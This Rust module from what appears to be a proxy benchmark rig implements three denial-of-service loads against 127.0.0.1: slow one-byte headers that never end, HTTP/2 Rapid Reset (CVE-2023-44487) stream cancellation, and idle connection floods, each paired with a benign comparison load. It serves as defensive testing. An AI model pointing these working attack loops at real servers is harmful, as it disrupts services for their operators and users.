//! A part of the rig: an attack at a fixed rate, or the same load without malice.
//!
//! - `slow-heads`: connections that send one byte of their head at a time. Without malice: as many connections, each
//!   sending a whole head in the time that the slow one takes for its.
//! - `resets`: HTTP/2 streams that are reset as soon as they are opened (Rapid Reset, CVE-2023-44487). Without: as
//!   many streams that wait for their answer.
//! - `floods`: connections that say nothing and stay. Without: as many that ask once and stay.
//!
//! What the proxy closes is opened again: an attacker does not give up.

use std::cell::Cell;
use std::rc::Rc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::{JoinSet, LocalSet};

use crate::Failure;
use crate::arguments::Arguments;
use crate::drive::timer::Timer;
use crate::http::Messages;

const REQUEST: &[u8] = b"GET /attack HTTP/1.1\r\nHost: bench.localhost\r\nUser-Agent: many\r\n\r\n";

/// Connections of slow heads, and of resets.
const SLOW: u32 = 500;
const RESETTING: u32 = 8;

/// A flooding connection stays so long.
const STAY: Duration = Duration::from_secs(5);

/// Streams of one connection that may wait for an answer.
const STREAMS_MAX: usize = 100;

/// After a connection that could not be opened or was closed at once.
const REST: Duration = Duration::from_millis(5);

/// What one attacking task needs to know.
#[derive(Clone)]
struct Orders {
    port: u16,
    malice: bool,
    /// Between two of its actions.
    every: Duration,
    end: Instant,
    done: Rc<Cell<u64>>,
}

impl Orders {
    /// Between two actions of one task; a whole head takes as long as its bytes one by one.
    fn period(&self, kind: &str) -> Duration {
        match (kind, self.malice) {
            ("slow-heads", false) => self.every * u32::try_from(REQUEST.len()).unwrap_or(u32::MAX),
            _ => self.every,
        }
    }
}

/// Prints `begin`, and at the end how many actions there were.
pub(crate) async fn run(arguments: &Arguments) -> Result<(), Failure> {
    let kind = arguments.text("kind").unwrap_or_default().to_owned();
    let rate: u32 = arguments.get("rate", 1000)?;
    let seconds = Duration::from_secs_f64(arguments.get("seconds", 2.0)?);
    let tasks = match kind.as_str() {
        "slow-heads" => SLOW,
        "resets" => RESETTING,
        "floods" => 1,
        other => return Err(format!("--kind: `{other}` is none").into()),
    };
    let done = Rc::new(Cell::new(0));
    let orders = Orders {
        port: arguments.get("to", 0)?,
        malice: arguments.has("malice"),
        every: Duration::from_secs(1) * tasks / rate.max(1),
        end: Instant::now() + seconds,
        done: done.clone(),
    };
    println!("begin");
    let attack = async move {
        let mut running = JoinSet::new();
        for number in 0..tasks {
            let (kind, orders) = (kind.clone(), orders.clone());
            running.spawn_local(async move {
                // Evenly over the time between two actions: those of all at once would be a load of another kind.
                let offset = orders.period(&kind) * number / tasks;
                attacker(&kind, &orders, Instant::now() + offset).await;
            });
        }
        while running.join_next().await.is_some() {}
    };
    LocalSet::new().run_until(attack).await;
    println!("{}", done.get());
    Ok(())
}

async fn attacker(kind: &str, orders: &Orders, first: Instant) {
    while Instant::now() < orders.end {
        let outcome = match (kind, orders.malice) {
            ("slow-heads", true) => slow_head(orders, first).await,
            ("slow-heads", false) => whole_heads(orders, first).await,
            ("resets", _) => streams(orders, first).await,
            _ => flood(orders, first).await,
        };
        if outcome.is_err() {
            tokio::time::sleep(REST).await;
        }
    }
}

/// Turns of one task, evenly, whatever each takes.
struct Turns<'a> {
    orders: &'a Orders,
    timer: Timer,
    due: Instant,
}

impl<'a> Turns<'a> {
    fn new(orders: &'a Orders, first: Instant) -> Result<Self, Failure> {
        // Who comes back after a connection was closed goes on from now.
        Ok(Self { orders, timer: Timer::new()?, due: first.max(Instant::now()) })
    }

    /// Waits for the next turn; false when the time is over, and not before: who returns early would begin anew.
    async fn next(&mut self, every: Duration) -> Result<bool, Failure> {
        self.timer.wait_until(self.due.min(self.orders.end)).await?;
        if self.due >= self.orders.end {
            return Ok(false);
        }
        self.due += every;
        self.orders.done.set(self.orders.done.get() + 1);
        Ok(true)
    }
}

async fn open(port: u16) -> Result<TcpStream, Failure> {
    let stream = TcpStream::connect(("127.0.0.1", port)).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// The head comes to its end and begins anew in a field, so that it never ends.
async fn slow_head(orders: &Orders, first: Instant) -> Result<(), Failure> {
    let mut stream = open(orders.port).await?;
    let mut turns = Turns::new(orders, first)?;
    let endless = REQUEST.get(..REQUEST.len() - 2).unwrap_or_default();
    let more = b"x-more: 1\r\n".iter().cycle();
    for byte in endless.iter().chain(more) {
        if !turns.next(orders.every).await? {
            break;
        }
        stream.write_all(std::slice::from_ref(byte)).await?;
    }
    Ok(())
}

async fn whole_heads(orders: &Orders, first: Instant) -> Result<(), Failure> {
    let mut stream = open(orders.port).await?;
    let mut turns = Turns::new(orders, first)?;
    let mut messages = Messages::new();
    while turns.next(orders.period("slow-heads")).await? {
        stream.write_all(REQUEST).await?;
        messages.next(&mut stream).await?.ok_or("closed")?;
    }
    Ok(())
}

async fn streams(orders: &Orders, first: Instant) -> Result<(), Failure> {
    let stream = open(orders.port).await?;
    let (mut sender, connection) = h2::client::handshake(stream).await?;
    let mut tasks = JoinSet::new();
    tasks.spawn_local(async move { drop(connection.await) });
    let mut turns = Turns::new(orders, first)?;
    while turns.next(orders.every).await? {
        sender = sender.ready().await?;
        let head = http::Request::get("http://bench.localhost/attack").body(())?;
        let (answer, mut stream) = sender.send_request(head, true)?;
        if orders.malice {
            stream.send_reset(h2::Reason::CANCEL);
            // What the library has queued must leave before the next.
            tokio::task::yield_now().await;
        } else if tasks.len() <= STREAMS_MAX {
            tasks.spawn_local(async move { drop(read_whole(answer).await) });
        }
        while tasks.try_join_next().is_some() {}
    }
    Ok(())
}

async fn read_whole(answer: h2::client::ResponseFuture) -> Result<(), Failure> {
    let mut body = answer.await?.into_body();
    while let Some(piece) = body.data().await {
        let piece: Bytes = piece?;
        body.flow_control().release_capacity(piece.len())?;
    }
    Ok(())
}

async fn flood(orders: &Orders, first: Instant) -> Result<(), Failure> {
    let mut turns = Turns::new(orders, first)?;
    let mut staying = JoinSet::new();
    while turns.next(orders.every).await? {
        let (port, malice) = (orders.port, orders.malice);
        let until = (Instant::now() + STAY).min(orders.end);
        staying.spawn_local(async move {
            let stay = tokio::time::timeout_at(until.into(), stay(port, malice));
            drop(stay.await);
        });
        while staying.try_join_next().is_some() {}
    }
    Ok(())
}

/// Stays until the proxy closes.
async fn stay(port: u16, malice: bool) -> Result<(), Failure> {
    let mut stream = open(port).await?;
    if !malice {
        stream.write_all(REQUEST).await?;
    }
    // The answer, if any, is not looked at.
    while stream.read(&mut [0; 4096]).await? > 0 {}
    Ok(())
}
